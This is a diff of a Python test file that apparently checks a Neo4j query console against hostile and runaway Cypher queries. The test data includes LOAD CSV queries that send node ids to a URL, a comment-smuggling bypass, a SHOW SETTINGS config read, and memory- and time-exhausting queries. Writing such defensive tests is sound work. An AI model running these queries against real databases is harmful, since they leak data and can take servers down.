@@ -18,8 +18,7 @@ HOSTILE: list[tuple[str, dict[str, Any]]] = [
     (f"WITH '/*' AS a LOAD CSV FROM '{_URL}' AS r RETURN a, r, '*/' AS b", {}),
     (f"WITH '//' AS a LOAD CSV FROM '{_URL}' AS r RETURN a, r", {}),
     (
-        "MATCH (h:Household) WITH h LIMIT 1 "
-        "LOAD CSV FROM 'http://127.0.0.1:8501/?h=' + h.id AS r RETURN r",
+        "MATCH (h:Household) WITH h LIMIT 1 LOAD CSV FROM 'http://127.0.0.1:8501/?h=' + h.id AS r RETURN r",
         {},
     ),
     ("USE`neo4j` SHOW SETTINGS YIELD name, value RETURN name, value", {}),
@@ -91,8 +90,9 @@ HOSTILE: list[tuple[str, dict[str, Any]]] = [
     ("RETURN size(range(1, toInteger(1e10))) AS n", {}),
     ("RETURN [a IN range(1, 1000) | [b IN range(1, 1000) | [c IN range(1, 1000) | 1]]] AS x", {}),
     (
-        "WITH 'xxxxxxxxxx' AS s RETURN size(replace(replace(replace(replace(replace(replace(replace("
-        "replace(replace(s, 'x', s), 'x', s), 'x', s), 'x', s), 'x', s), 'x', s), 'x', s), 'x', s), 'x', s)) AS n",
+        "WITH 'xxxxxxxxxx' AS s RETURN size(replace(replace(replace(replace(replace(replace("
+        "replace(replace(replace(s, 'x', s), 'x', s), 'x', s), 'x', s), 'x', s), 'x', s), "
+        "'x', s), 'x', s), 'x', s)) AS n",
         {},
     ),
     ("RETURN any(a IN range(1, 10) WHERE any(b IN range(1, 10) WHERE a = b)) AS x", {}),
@@ -103,7 +103,16 @@ HOSTILE: list[tuple[str, dict[str, Any]]] = [
 #: Well-formed reads that run away: the console lets them start and the server must stop them
 #: (transaction timeout, per-transaction memory limit) while it stays up.
 RUNAWAY: list[tuple[str, dict[str, Any]]] = [
-    ("MATCH (a), (b), (c), (d), (e) RETURN count(*) AS n", {}),
+    (
+        "MATCH (a:ConsoleProbe), (b:ConsoleProbe), (c:ConsoleProbe), (d:ConsoleProbe) "
+        "WHERE a.i + b.i + c.i + d.i < 0 RETURN count(*) AS n",
+        {},
+    ),
+    (
+        "UNWIND range(1, 100000) AS a UNWIND range(1, 100) AS b "
+        "RETURN size(collect(toString(a) + 'padding-padding-padding' + toString(b))) AS n",
+        {},
+    ),
     ("UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN count(*) AS n", {}),
     ("UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN collect([a, b]) AS n", {}),
     (
@@ -122,7 +131,10 @@ READS: list[tuple[str, dict[str, Any]]] = [
     ("CALL db.relationshipTypes() YIELD relationshipType RETURN relationshipType", {}),
     ("CALL db.propertyKeys()", {}),
     ("CALL db.schema.visualization()", {}),
-    ("MATCH (n) WITH labels(n) AS l, count(*) AS c WHERE c > 0 RETURN l, c ORDER BY c DESC SKIP 0 LIMIT 5", {}),
+    (
+        "MATCH (n) WITH labels(n) AS l, count(*) AS c WHERE c > 0 RETURN l, c ORDER BY c DESC SKIP 0 LIMIT 5",
+        {},
+    ),
     ("MATCH (n) CALL (n) { MATCH (n)--(m) RETURN count(m) AS k } RETURN k LIMIT 3", {}),
     ("MATCH (n) WHERE EXISTS { MATCH (n)--() } RETURN count(n) AS c", {}),
     ("UNWIND range(1, 10) AS x RETURN x * 2 AS y", {}),
